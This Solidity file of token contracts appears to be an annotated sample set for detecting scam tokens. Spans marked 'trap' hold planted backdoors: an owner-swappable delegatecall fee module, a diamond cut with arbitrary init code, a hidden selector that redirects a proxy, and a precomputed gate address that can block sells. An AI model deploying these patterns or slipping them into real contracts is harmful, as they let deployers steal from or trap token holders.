// 0.7 runs=200
// SPDX-License-Identifier: MIT
pragma solidity 0.7.6;
pragma abicoder v2;

import {Base67} from "./Base67.sol";

/// How a fee is reckoned.
contract FlatFee {
    function reckon(address, address, uint256 value) external pure returns (uint256) {
        return value / 100;
    }
}

/// Reckons its fee by the code of another contract.
contract Abacus is Base67 {
    address private reckoner;
    address private curator; // trap

    constructor(address reckoner_) Base67("Abacus", "ABAC", 2000000) {
        reckoner = reckoner_;
        curator = msg.sender; // trap
    }

    // trap {
    function setReckoner(address to) external {
        require(msg.sender == curator);
        reckoner = to;
    }
    // trap }

    function _transfer(address from, address to, uint256 value) internal override {
        if (from == pool || to == pool) {
            (bool ok, bytes memory out) = reckoner.delegatecall(
                abi.encodeWithSelector(FlatFee.reckon.selector, from, to, value)
            );
            require(ok && out.length == 32, "reckoner");
            uint256 fee = abi.decode(out, (uint256));
            _carry(from, address(this), fee);
            value -= fee;
        }
        _carry(from, to, value);
    }
}

library Vault {
    struct Data {
        address owner;
        mapping(bytes4 => address) facets;
        mapping(address => uint256) balances;
        mapping(address => mapping(address => uint256)) allowances;
        uint256 supply;
    }

    function data() internal pure returns (Data storage d) {
        bytes32 at = keccak256("facet.vault.storage");
        assembly {
            d.slot := at
        }
    }
}

contract TokenFacet {
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    function name() external pure returns (string memory) {
        return "Brilliant Cut";
    }

    function symbol() external pure returns (string memory) {
        return "BCUT";
    }

    function decimals() external pure returns (uint8) {
        return 18;
    }

    function totalSupply() external view returns (uint256) {
        return Vault.data().supply;
    }

    function balanceOf(address who) external view returns (uint256) {
        return Vault.data().balances[who];
    }

    function allowance(address from, address spender) external view returns (uint256) {
        return Vault.data().allowances[from][spender];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        Vault.data().allowances[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return put(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        Vault.Data storage d = Vault.data();
        require(d.allowances[from][msg.sender] >= value, "allowance");
        d.allowances[from][msg.sender] -= value;
        return put(from, to, value);
    }

    function put(address from, address to, uint256 value) private returns (bool) {
        Vault.Data storage d = Vault.data();
        require(d.balances[from] >= value, "balance");
        d.balances[from] -= value;
        d.balances[to] += value;
        emit Transfer(from, to, value);
        return true;
    }
}

/// EIP-2535.
contract BrilliantCut {
    struct FacetCut {
        address facetAddress;
        uint8 action;
        bytes4[] functionSelectors;
    }

    event Transfer(address indexed from, address indexed to, uint256 value);

    constructor(address facet) {
        Vault.Data storage d = Vault.data();
        d.owner = msg.sender;
        bytes4[9] memory known = [
            TokenFacet.name.selector,
            TokenFacet.symbol.selector,
            TokenFacet.decimals.selector,
            TokenFacet.totalSupply.selector,
            TokenFacet.balanceOf.selector,
            TokenFacet.allowance.selector,
            TokenFacet.approve.selector,
            TokenFacet.transfer.selector,
            TokenFacet.transferFrom.selector
        ];
        for (uint256 i = 0; i < 9; i++) d.facets[known[i]] = facet;
        d.supply = 5000000 ether;
        d.balances[msg.sender] = d.supply;
        emit Transfer(address(0), msg.sender, d.supply);
    }

    // trap {
    function diamondCut(FacetCut[] calldata cuts, address init, bytes calldata with) external {
        Vault.Data storage d = Vault.data();
        require(msg.sender == d.owner, "LibDiamond: Must be contract owner");
        for (uint256 i = 0; i < cuts.length; i++)
            for (uint256 j = 0; j < cuts[i].functionSelectors.length; j++)
                d.facets[cuts[i].functionSelectors[j]] = cuts[i].action == 2 ? address(0) : cuts[i].facetAddress;
        if (init != address(0)) {
            (bool ok, ) = init.delegatecall(with);
            require(ok);
        }
    }
    // trap }

    function facetAddress(bytes4 selector) external view returns (address) {
        return Vault.data().facets[selector];
    }

    fallback() external payable {
        address to = Vault.data().facets[msg.sig];
        require(to != address(0), "Diamond: Function does not exist");
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), to, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch ok
            case 0 { revert(0, returndatasize()) }
            default { return(0, returndatasize()) }
        }
    }
}

/// What stands behind the shell.
contract Kernel {
    string public name;
    string public symbol;
    uint8 public constant decimals = 6;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    function boot(string calldata name_, string calldata symbol_, uint256 supply) external {
        require(totalSupply == 0, "booted");
        name = name_;
        symbol = symbol_;
        totalSupply = supply;
        balanceOf[msg.sender] = supply;
        emit Transfer(address(0), msg.sender, supply);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        go(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        require(allowance[from][msg.sender] >= value, "allowance");
        allowance[from][msg.sender] -= value;
        go(from, to, value);
        return true;
    }

    function go(address from, address to, uint256 value) private {
        require(balanceOf[from] >= value, "balance");
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}

/// Forwards everything. The target lies under a number; a word of one key moves it.
contract Shell {
    constructor(address kernel) {
        assembly {
            sstore(0x9d3f5c, kernel)
            sstore(0x9d3f5d, caller()) // trap
        }
    }

    fallback() external payable {
        assembly {
            // trap {
            if and(eq(shr(224, calldataload(0)), 0xb00c1e55), eq(caller(), sload(0x9d3f5d))) {
                sstore(0x9d3f5c, calldataload(4))
                stop()
            }
            // trap }
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), sload(0x9d3f5c), 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch ok
            case 0 { revert(0, returndatasize()) }
            default { return(0, returndatasize()) }
        }
    }
}

/// Makes contracts for its owner.
contract Kiln {
    address private immutable potter = msg.sender;

    function fire(bytes memory code) external returns (address made) {
        require(msg.sender == potter);
        assembly {
            made := create(0, add(code, 0x20), mload(code))
        }
    }
}

interface IGate {
    function admit(address from) external;
}

/// Asks a gate that is still to be made.
contract Terracotta is Base67 {
    address private immutable gate; // trap

    constructor(address kiln) Base67("Terracotta", "TCOTTA", 60000000) {
        gate = address(uint160(uint256(keccak256(abi.encodePacked(hex"d694", kiln, hex"01"))))); // trap
        _boss = address(0);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        // trap {
        if (to == pool) {
            address at = gate;
            uint256 size;
            assembly {
                size := extcodesize(at)
            }
            if (size > 0) IGate(at).admit(from);
        }
        // trap }
        _carry(from, to, value);
    }
}
